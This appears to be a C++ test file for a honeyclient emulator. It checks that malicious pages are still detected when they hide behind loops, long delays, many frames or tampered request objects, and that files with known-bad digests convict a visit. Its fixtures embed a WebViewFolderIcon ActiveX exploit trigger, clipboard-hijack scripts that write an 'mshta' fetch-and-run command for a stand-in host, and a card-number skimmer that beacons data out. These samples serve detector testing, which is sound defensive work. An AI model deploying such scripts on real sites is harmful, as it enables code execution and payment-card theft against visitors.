// Pages that do much that is harmless first, or wait, or break what the emulation might lean on, and then
// what they came for: that is seen all the same, and where a bound was reached it is named.
#include <algorithm>

#include <gmock/gmock.h>

#include "honeyclient/low/visit_test.h"

namespace shikake::honeyclient::low {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

struct Row {
  const char* name;
  const char* persona;
  Sites::Pages pages;
  const char* verdict;
  const char* node = nullptr;   // that must be in the record
  const char* limit = nullptr;  // that must be named; nullptr: none at all
};

class HiddenBehind : public ::testing::TestWithParam<Row> {};

TEST_P(HiddenBehind, IsSeen) {
  Sites sites(GetParam().pages);
  VisitOptions options = local_visit(sites.url());
  options.persona = GetParam().persona;
  const intel::VisitRecord visit = visit_or_fail(options);
  EXPECT_EQ(intel::name(visit.verdict), GetParam().verdict) << ::testing::PrintToString(visit.reasons);
  if (GetParam().limit) {
    EXPECT_THAT(visit.limits_hit, Contains(GetParam().limit));
    EXPECT_FALSE(visit.complete);
  } else {
    EXPECT_THAT(visit.limits_hit, IsEmpty()) << ::testing::PrintToString(events_of(visit, "error"));
  }
  if (!GetParam().node) return;
  std::vector<std::string> nodes;
  for (const intel::VisitNode& node : visit.nodes) nodes.push_back(sites.named(node.url));
  EXPECT_THAT(nodes, Contains(GetParam().node)) << ::testing::PrintToString(events_of(visit, "error"));
}

const std::string leads_to_end = "new Image().src = '{b}/end'";

INSTANTIATE_TEST_SUITE_P(
    Rows, HiddenBehind,
    ::testing::Values(
        // --- one kind of deed many times, then the one that counts
        Row{"a_hundred_harmless_uses_of_a_component",
            "ie6-winxp",
            {{"/",
              "<script>var o = new ActiveXObject('WebViewFolderIcon.WebViewFolderIcon.1');"
              "for (var i = 0; i < 300; i++) try { o.setSlice(1, 1, 1, i) } catch (e) {}"
              "o.setSlice(0x7ffffffe, 0, 0, 202116108)</script>"}},
            "malicious",
            nullptr,
            "component-uses"},
        Row{"one_harmless_use_in_a_loop",
            "ie6-winxp",
            {{"/",
              "<script>var o = new ActiveXObject('WebViewFolderIcon.WebViewFolderIcon.1');"
              "for (var i = 0; i < 300; i++) o.setSlice(1, 1, 1, 1);"
              "o.setSlice(0x7ffffffe, 0, 0, 202116108)</script>"}},
            "malicious"},
        Row{"many_copies_to_the_clipboard",
            "chrome-win10",
            {{"/",
              "<p>x</p><script>for (var i = 0; i < 300; i++) navigator.clipboard.writeText('x' + i);"
              "navigator.clipboard.writeText('mshta http://range.example/x.hta')</script>"}},
            "malicious"},
        Row{"a_clock_that_ticks_fast",
            "chrome-win10",
            {{"/",
              "<p>x</p><script>setInterval(function () {}, 1); setTimeout(function () { "
              "navigator.clipboard.writeText('mshta http://range.example/x.hta') }, 9000)</script>"}},
            "malicious",
            nullptr,
            "timers"},
        Row{"much_talk",
            "chrome-win10",
            {{"/",
              "<p>x</p><script>for (var i = 0; i < 3000; i++) console.log(i);"
              "navigator.clipboard.writeText('mshta http://range.example/x.hta')</script>"}},
            "malicious",
            nullptr,
            "notices"},
        Row{"a_long_beginning_of_a_copy",
            "chrome-win10",
            {{"/",
              "<p>x</p><script>navigator.clipboard.writeText('# ' + 'x'.repeat(5000) + "
              "'\\nmshta http://range.example/x.hta')</script>"}},
            "malicious"},
        Row{"letters_to_oneself",
            "chrome-win10",
            {{"/",
              "<body><form><input name=cardnumber></form><script>"
              "document.forms[0][0].onchange = function () {"
              "for (var i = 0; i < 100; i++) navigator.sendBeacon('/' + i, this.value);"
              "new Image().src = '{b}/?' + btoa(this.value) }</script>"}},
            "malicious"},
        Row{"many_empty_frames",
            "chrome-win10",
            {{"/",
              "<body><script>for (var i = 0; i < 70; i++) document.body.appendChild(document.createElement("
              "'iframe')); var f = document.createElement('iframe'); f.src = '{b}/end';"
              "document.body.appendChild(f)</script>"}},
            "benign",
            "{b}/end",
            "frames"},
        Row{"many_frames",
            "chrome-win10",
            {{"/",
              "<body><script>for (var i = 0; i < 70; i++) { var f = document.createElement('iframe');"
              "f.src = '/f' + i; document.body.appendChild(f) } f = document.createElement('iframe');"
              "f.src = '{b}/end'; document.body.appendChild(f)</script>"},
             {"/f0", "x"}},
            "benign",
            "{b}/end",
            "frames"},
        // --- time
        Row{"a_minute",
            "chrome-win10",
            {{"/", "<script>setTimeout(\"" + leads_to_end + "\", 61000)</script>"}},
            "benign",
            "{b}/end"},
        Row{"a_day",
            "chrome-win10",
            {{"/", "<script>setTimeout(\"" + leads_to_end + "\", 86400000)</script>"}},
            "benign",
            "{b}/end"},
        Row{"several_minutes_in_steps",
            "chrome-win10",
            {{"/", "<script>setTimeout(function () { setTimeout(function () {\nsetTimeout(function () { " +
                       leads_to_end + " }, 40000) }, 40000) }, 40000)</script>"}},
            "benign",
            "{b}/end"},
        Row{"longer_than_a_timer_can",
            "chrome-win10",
            {{"/", "<script>setTimeout(\"" + leads_to_end + "\", Infinity)</script>"}},
            "benign",
            "{b}/end"},
        Row{"a_clock_that_ticks_is_no_wait",
            "chrome-win10",
            {{"/",
              "<p id=t></p><script>(function tick() { t.textContent = Date.now(); setTimeout(tick, 1000) "
              "})(); setInterval(function () {}, 30000)</script>"}},
            "benign"},
        Row{"a_page_that_reloads_itself_after_minutes",
            "chrome-win10",
            {{"/", "<script>setTimeout(function () { location.reload() }, 300000)</script>"}},
            "benign"},
        // --- where it goes
        Row{"moves_to_where_it_is",
            "chrome-win10",
            {{"/",
              "<script>location.hash = 'a'; location.hash = 'a'; location.href = '#a';"
              "onhashchange = function () { " +
                  leads_to_end + " }</script>"}},
            "benign",
            "{b}/end"},
        // --- what the emulation might lean on
        Row{"a_request_whose_prototype_was_changed",
            "ie8-winxp",
            {{"/",
              "<script>XMLHttpRequest.prototype.open = XMLHttpRequest.prototype.send = function () {};"
              "var r = new ActiveXObject('Microsoft.XMLHTTP'); r.Open('GET', '/x', false); r.Send();"
              "if (r.Status == 200) new Image().src = '{b}/' + r.ResponseText</script>"},
             {"/x", "end"}},
            "benign",
            "{b}/end"},
        Row{"a_request_that_is_changed_by_its_own_handler",
            "ie8-winxp",
            {{"/",
              "<script>var r = new ActiveXObject('Microsoft.XMLHTTP'); r.onreadystatechange = function () {"
              "try { this.open = this.send = function () {} } catch (e) {} };"
              "r.open('GET', '/x', false); r.send(); r.open('GET', '/x', false); r.send();"
              "new Image().src = '{b}/' + r.responseText</script>"},
             {"/x", "end"}},
            "benign",
            "{b}/end"},
        // --- where nobody answers
        Row{"a_socket",
            "chrome-win10",
            {{"/",
              "<script>var s = new WebSocket('wss://socket.example/c');"
              "s.onclose = function (e) { new Image().src = '{b}/end?' + s.readyState + e.type }</script>"}},
            "benign",
            "{b}/end?3close"},
        // --- what the page holds itself
        Row{"asks_for_a_data_url_in_the_old_way",
            "chrome-win10",
            {{"/",
              "<script>var r = new XMLHttpRequest(); r.open('GET', 'data:text/plain,end');"
              "r.onload = function () { new Image().src = '{b}/' + r.responseText }; r.send()</script>"}},
            "benign",
            "{b}/end"},
        Row{"asks_for_a_data_url_anew",
            "chrome-win10",
            {{"/",
              "<script>fetch('data:application/json;base64,eyJ1IjoiZW5kIn0=').then(r => "
              "r.json()).then(function (o) {"
              "new Image().src = '{b}/' + o.u })</script>"}},
            "benign",
            "{b}/end"},
        Row{"asks_for_a_blob_in_the_old_way",
            "chrome-win10",
            {{"/",
              "<script>var u = URL.createObjectURL(new Blob(['e', 'nd'], {type: 'text/x'})), r = new "
              "XMLHttpRequest();"
              "r.open('GET', u); r.responseType = 'arraybuffer'; r.onload = function () {"
              "new Image().src = '{b}/' + String.fromCharCode.apply(null, new Uint8Array(r.response)) +"
              "(r.getResponseHeader('content-type') == 'text/x' ? '' : '?') }; r.send()</script>"}},
            "benign",
            "{b}/end"},
        Row{"asks_for_a_blob_at_once",
            "chrome-win10",
            {{"/",
              "<script>var u = URL.createObjectURL(new Blob(['end'])), r = new XMLHttpRequest();"
              "r.open('GET', u, false); r.send(); new Image().src = '{b}/' + r.responseText</script>"}},
            "benign",
            "{b}/end"},
        Row{"asks_for_a_blob_anew",
            "chrome-win10",
            {{"/",
              "<script>fetch(URL.createObjectURL(new Blob(['end']))).then(r => r.blob()).then(b => "
              "b.text()).then("
              "function (t) { new Image().src = '{b}/' + t })</script>"}},
            "benign",
            "{b}/end"},
        Row{"asks_for_a_blob_in_a_worker",
            "chrome-win10",
            {{"/",
              "<script>var u = URL.createObjectURL(new Blob(['end'])); var w = new "
              "Worker(URL.createObjectURL(new "
              "Blob(['onmessage = function (e) { fetch(e.data).then(r => r.text()).then(postMessage) }'])));"
              "w.onmessage = function (e) { new Image().src = '{b}/' + e.data }; w.postMessage(u)</script>"}},
            "benign",
            "{b}/end"},
        Row{"waits_for_a_blob_that_is_gone",
            "chrome-win10",
            {{"/",
              "<script>var u = URL.createObjectURL(new Blob(['x'])); URL.revokeObjectURL(u);"
              "fetch(u).catch(function () { new Image().src = '{b}/end' })</script>"}},
            "benign",
            "{b}/end"},
        // --- a promise that nobody waits for
        Row{"hears_that_a_promise_failed",
            "chrome-win10",
            {{"/",
              "<script>addEventListener('unhandledrejection', function (e) { new Image().src = '{b}/' + "
              "e.reason });"
              "Promise.reject('end')</script>"}},
            "benign",
            "{b}/end"},
        Row{"fails_again_in_what_hears_of_it",
            "chrome-win10",
            {{"/",
              "<script>onunhandledrejection = function () { Promise.reject(1) }; Promise.reject(1);"
              "setTimeout(function () { " +
                  leads_to_end + " }, 1000)</script>"}},
            "benign",
            "{b}/end",
            "rejections"},
        // --- what is too long to be asked for
        Row{"sends_more_than_can_be_told",
            "chrome-win10",
            {{"/",
              "<script>var s = 'x'.repeat(36 << 20); fetch('/x', {method: 'POST', body: s}).catch(function "
              "() {"
              "var r = new XMLHttpRequest(); r.open('POST', '/x', false); try { r.send(s) } catch (e) {"
              "new Image().src = '{b}/end' } })</script>"}},
            "benign",
            "{b}/end",
            "message"}),
    [](const auto& row) { return row.param.name; });

// Whose failure somebody hears before the next turn is none.
TEST(Rejections, AreToldWhereNobodyHears) {
  VisitOptions options = offline_visit(
      "<script>Promise.reject(new Error('lost')); var late = Promise.reject(new Error('found'));"
      "Promise.resolve().then(function () { late.catch(function () {}) })</script>");
  const intel::VisitRecord visit = visit_or_fail(options);
  EXPECT_THAT(events_of(visit, "error"), ElementsAre("in a promise: Error: lost"));
}

// What is known of a file by its digest, wherever the visit meets it.
struct KnownRow {
  const char* name;
  const char* persona;
  Sites::Pages pages;
  const char* verdict;
  const char* role;  // of the node that {…} names
  const char* node;
};

class KnownBad : public ::testing::TestWithParam<KnownRow> {};

TEST_P(KnownBad, FilesConvict) {
  const std::string bad = "a specimen that somebody has judged";
  Sites sites(GetParam().pages);
  VisitOptions options = local_visit(sites.url());
  options.persona = GetParam().persona;
  options.known_bad = [&](const base::Digest& digest) -> std::optional<std::string> {
    if (digest == base::sha256(bad)) return "seen in the wild";
    return std::nullopt;
  };
  const intel::VisitRecord visit = visit_or_fail(options);
  EXPECT_EQ(intel::name(visit.verdict), GetParam().verdict) << ::testing::PrintToString(visit.reasons);
  if (!GetParam().node) {
    EXPECT_THAT(events_of(visit, "known-bad"), IsEmpty());
    return;
  }
  EXPECT_THAT(events_of(visit, "known-bad"), Contains(HasSubstr("seen in the wild")));
  EXPECT_THAT(visit.reasons, Contains(HasSubstr("seen in the wild")));
  const auto node = std::ranges::find_if(
      visit.nodes, [&](const intel::VisitNode& one) { return sites.named(one.url) == GetParam().node; });
  ASSERT_NE(node, visit.nodes.end());
  ASSERT_TRUE(node->role.has_value());
  EXPECT_EQ(intel::name(*node->role), GetParam().role);
  EXPECT_THAT(node->evidence, Contains(HasSubstr("seen in the wild")));
}

INSTANTIATE_TEST_SUITE_P(
    Rows, KnownBad,
    ::testing::Values(
        KnownRow{"a_body",
                 "chrome-win10",
                 {{"/", "<img src='{b}/x'>"}, {"/x", "a specimen that somebody has judged"}},
                 "malicious",
                 "exploit",
                 "{b}/x"},
        KnownRow{
            "a_text_that_is_evaluated",
            "chrome-win10",
            {{"/", "<script>try { eval('a specimen that' + ' somebody has judged') } catch (e) {}</script>"}},
            "malicious",
            "exploit",
            "{a}/"},
        KnownRow{"another_body",
                 "chrome-win10",
                 {{"/", "<img src='{b}/x'>"}, {"/x", "a specimen that nobody has judged"}},
                 "benign",
                 nullptr,
                 nullptr}),
    [](const auto& row) { return row.param.name; });

}  // namespace
}  // namespace shikake::honeyclient::low
